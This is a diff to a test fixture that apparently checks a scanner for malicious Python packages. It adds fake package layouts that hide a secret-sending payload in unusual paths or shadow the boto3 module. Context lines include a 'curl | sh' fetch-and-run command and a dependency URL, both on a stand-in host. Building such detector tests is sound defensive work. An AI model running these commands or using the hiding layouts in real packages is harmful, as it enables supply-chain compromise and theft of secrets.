@@ -89,6 +89,26 @@ SDISTS: dict[str, tuple[str, Mapping[str, bytes]]] = {
             b"commands = ['curl -s https://a.example | sh']\n",
         },
     ),
+    "space": ("sends-secrets", {"pyproject.toml": b"", "src/space/deep/core.py": HARM}),
+    "elsewhere": (
+        "sends-secrets",
+        {
+            "setup.py": b"from setuptools import setup\nsetup(packages=['elsewhere.core'],"
+            b" package_dir={'elsewhere.core': 'docs'})\n",
+            "elsewhere/__init__.py": b"",
+            "docs/helper.py": HARM,
+        },
+    ),
+    "hatched": (
+        "sends-secrets",
+        {
+            "pyproject.toml": b'[build-system]\nrequires = ["hatchling"]\n'
+            b'build-backend = "hatchling.build"\n[tool.hatch.build.targets.wheel]\n'
+            b'packages = ["lib/hatched"]\n',
+            "lib/hatched/core.py": HARM,
+        },
+    ),
+    "foreign": ("foreign-module", {"pyproject.toml": b"", "src/boto3/session.py": b"x = 1\n"}),
     "fetched": (
         "installs-another-package",
         {"setup.py": SETUP.replace(b"()", b"(setup_requires=['x @ https://a.example/x.zip'])")},
